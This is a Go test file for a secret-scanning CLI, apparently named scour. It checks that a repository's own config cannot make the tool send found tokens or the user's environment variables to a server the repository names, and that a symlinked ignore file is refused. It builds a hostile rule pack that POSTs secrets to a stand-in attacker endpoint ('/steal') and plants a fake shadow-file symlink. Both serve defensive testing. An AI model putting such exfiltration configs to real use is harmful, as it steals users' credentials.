package cmd

import (
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/scour-dev/scour/scan"
)

// hostilePack is a rule pack a repository ships and names in its own
// .scour.yaml: it finds its token and asks scour to send it, with the
// user's environment variable canaryEnv, to attacker.
func hostilePack(attacker, canaryEnv string) string {
	action := `      base_url: ` + attacker + `
      base_url_env: [` + canaryEnv + `]
      steps:
        - method: POST
          url: ${base_url}/steal
          headers:
            X-Token: ${secret}
          outcomes:
            - status: [200]
              result: %s
      fixtures:
        - {name: ok, responses: [{status: 200}], result: %s}
`
	return `provider: evil
rules:
  - id: evil-token
    description: the repository's own token
    pattern: '(?P<secret>evil_[a-z0-9]{24})'
    keywords: [evil_]
    verify:
` + strings.ReplaceAll(action, "%s", "live") + `    revoke:
      class: admin
      credential_env: ` + canaryEnv + `
` + strings.ReplaceAll(action, "%s", "revoked") + "      manual: ask the owner\n"
}

// TestHostileRepoConfigSendsNothing: a repository whose .scour.yaml names
// its own base URL (providers:) and a rule pack with verify/revoke blocks
// reading an environment variable gets no request, in scan --verify,
// verify and revoke run from inside it, and the variable's value appears
// nowhere: not in output, reports or the audit log.
func TestHostileRepoConfigSendsNothing(t *testing.T) {
	const canaryEnv = "SCOUR_TEST_CANARY_SECRET"
	const canary = "canary-AWS-SECRET-9c1e77d0b4"
	t.Setenv(canaryEnv, canary)
	t.Setenv("SCOUR_CONFIG", "")
	var hits atomic.Int64
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		io.WriteString(w, `{}`)
	}))
	t.Cleanup(attacker.Close)

	tok := "evil_" + seeded("hostile-repo", "abcdefghijklmnopqrstuvwxyz0123456789", 24)
	glpat := "glpat" + "-" + seeded("hostile-gl", "ABCDEFGHabcdefgh0123456789", 20)
	dir := tree(t, map[string]string{
		"app.env":         "EVIL=" + tok + "\nGITLAB_TOKEN=" + glpat + "\n",
		"scour/evil.yaml": hostilePack(attacker.URL, canaryEnv),
		".scour.yaml": "rules: [scour/evil.yaml]\nproviders:\n  gitlab:\n    base_url: " + attacker.URL +
			"\n  evil:\n    base_url: " + attacker.URL + "\n",
	})
	// The gitlab token goes to the user's (loopback) GitLab, never to the
	// repository's; its handler refuses everything.
	user := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(401) }))
	t.Cleanup(user.Close)
	t.Setenv("SCOUR_GITLAB_BASE_URL", user.URL)

	reportFile := filepath.Join(t.TempDir(), "findings.json")
	var outputs []string
	code, stdout, stderr := runCLI(t, "", "scan", dir, "--no-history", "--verify", "--format", "json", "--show-secrets", "--report", reportFile)
	outputs = append(outputs, stdout, stderr)
	if code != ExitFindings {
		t.Fatalf("scan --verify: exit %d, want %d (the repository's rule still detects):\n%s", code, ExitFindings, stderr)
	}
	for _, want := range []string{"ignoring providers:", "ignoring verify/revoke of rule evil-token"} {
		if !strings.Contains(stderr, want) {
			t.Errorf("scan --verify: stderr lacks %q:\n%s", want, stderr)
		}
	}
	data, err := os.ReadFile(reportFile)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), tok) {
		t.Fatal("the repository's detection-only rule found nothing")
	}
	outputs = append(outputs, string(data))

	t.Chdir(dir) // verify and revoke read ./.scour.yaml: the repository's
	code, stdout, stderr = runCLI(t, "", "verify", reportFile)
	outputs = append(outputs, stdout, stderr)
	if code != ExitUnknown { // the repository's rule cannot verify: unknown
		t.Errorf("verify: exit %d:\n%s%s", code, stdout, stderr)
	}
	if !strings.Contains(stdout, "no verification is defined") {
		t.Errorf("verify: the repository's rule was not made detection-only:\n%s", stdout)
	}
	audit := filepath.Join(t.TempDir(), "audit.jsonl")
	code, stdout, stderr = runCLI(t, "", "revoke", reportFile, "--yes", "--audit", audit)
	outputs = append(outputs, stdout, stderr)
	if code == ExitError {
		t.Errorf("revoke: exit %d:\n%s%s", code, stdout, stderr)
	}
	if data, err := os.ReadFile(audit); err == nil {
		outputs = append(outputs, string(data))
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the repository's server received %d requests", n)
	}
	for i, o := range outputs {
		if strings.Contains(o, canary) {
			t.Errorf("output %d shows the environment variable's value:\n%s", i, o)
		}
	}
}

// With --no-repo-config, verify does not read ./.scour.yaml at all (its
// rule pack is not even loaded); a config the user names still is.
func TestVerifyNoRepoConfig(t *testing.T) {
	t.Setenv("SCOUR_CONFIG", "")
	dir := tree(t, map[string]string{".scour.yaml": "rules: [missing-pack.yaml]\n"})
	reportFile := filepath.Join(dir, "r.json")
	os.WriteFile(reportFile, []byte(`{"schema_version": 1, "findings": []}`), 0o600)
	t.Chdir(dir)
	if code, _, stderr := runCLI(t, "", "verify", "r.json"); code != ExitError || !strings.Contains(stderr, "missing-pack.yaml") {
		t.Fatalf("without the flag the repository config is read: exit %d %s", code, stderr)
	}
	if code, _, stderr := runCLI(t, "", "verify", "--no-repo-config", "r.json"); code != ExitClean {
		t.Fatalf("--no-repo-config: exit %d %s", code, stderr)
	}
	if code, _, stderr := runCLI(t, "", "revoke", "--no-repo-config", "--dry-run", "r.json"); code != ExitClean {
		t.Fatalf("revoke --no-repo-config: exit %d %s", code, stderr)
	}
}

// NoRepoConfig also drops the scanned tree's .scourignore, and a
// .scourignore that is a symlink out of the tree is refused without
// showing the target's lines.
func TestRepoIgnoreFile(t *testing.T) {
	t.Parallel()
	fp := strings.Repeat("ab", 32)
	dir := tree(t, map[string]string{".scourignore": fp + "\n"})
	for _, noRepo := range []bool{false, true} {
		cfg, err := loadConfig(dir, "", noRepo)
		if err != nil {
			t.Fatal(err)
		}
		fl, err := scan.Suppressions(dir, cfg, scan.SuppressOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if got := fl.Ignore != nil && len(fl.Ignore.Entries) > 0; got == noRepo {
			t.Errorf("NoRepoConfig=%v: ignore file read = %v", noRepo, got)
		}
	}

	const canary = "root:canary-shadow-line:0:0"
	outside := filepath.Join(t.TempDir(), "shadow")
	os.WriteFile(outside, []byte(canary+"\n"), 0o600)
	evil := t.TempDir()
	if err := os.Symlink(outside, filepath.Join(evil, ".scourignore")); err != nil {
		t.Skipf("no symlinks: %v", err)
	}
	cfg, _ := loadConfig(evil, "", false)
	_, err := scan.Suppressions(evil, cfg, scan.SuppressOptions{})
	if err == nil || strings.Contains(err.Error(), "canary") || !strings.Contains(err.Error(), "outside") {
		t.Errorf("symlinked .scourignore: %v", err)
	}
}

// verify's exit code tells "all dead" (0) from "could not tell" (4), and
// --timeout bounds a stalled vendor (the secret is then unknown).
func TestVerifyExitCodesAndTimeout(t *testing.T) {
	t.Setenv("SCOUR_CONFIG", "")
	tok := "glpat" + "-" + seeded("verify-exit", "ABCDEFGHabcdefgh0123456789", 20)
	dir := tree(t, map[string]string{"ci.yml": "GITLAB_TOKEN: \"" + tok + "\"\n"})
	_, rep, _ := runCLI(t, "", "scan", dir, "--no-history", "--format", "json", "--show-secrets", "--quiet")

	dead := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(401) }))
	t.Cleanup(dead.Close)
	t.Setenv("SCOUR_GITLAB_BASE_URL", dead.URL)
	if code, out, errOut := runCLI(t, rep, "verify", "-"); code != ExitClean || !strings.Contains(out, "1 dead") {
		t.Errorf("all dead: exit %d, want %d:\n%s%s", code, ExitClean, out, errOut)
	}

	release := make(chan struct{})
	stall := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-release:
		case <-r.Context().Done():
		}
	}))
	t.Cleanup(stall.Close)
	t.Cleanup(func() { close(release) })
	t.Setenv("SCOUR_GITLAB_BASE_URL", stall.URL)
	code, out, errOut := runCLI(t, rep, "verify", "-", "--timeout", "100ms")
	if code != ExitUnknown || !strings.Contains(out, "timed out") {
		t.Errorf("stalled vendor: exit %d, want %d, reason timed out:\n%s%s", code, ExitUnknown, out, errOut)
	}
	if code, _, errOut := runCLI(t, rep, "verify", "-", "--timeout", "-1s"); code != ExitError {
		t.Errorf("negative --timeout: exit %d %s", code, errOut)
	}
}

// config check on a tree says what a scan of it would ignore in its
// .scour.yaml; the same file named explicitly is trusted and says nothing.
func TestConfigCheckNotesUntrustedParts(t *testing.T) {
	t.Setenv("SCOUR_CONFIG", "")
	dir := tree(t, map[string]string{".scour.yaml": "providers:\n  gitlab:\n    base_url: https://gitlab.example.com\n"})
	code, out, errOut := runCLI(t, "", "config", "check", dir)
	if code != ExitClean || !strings.Contains(out, "note: ignoring providers:") {
		t.Errorf("tree config: exit %d\n%s%s", code, out, errOut)
	}
	code, out, _ = runCLI(t, "", "config", "check", filepath.Join(dir, ".scour.yaml"))
	if code != ExitClean || strings.Contains(out, "note:") {
		t.Errorf("named config: exit %d\n%s", code, out)
	}
}
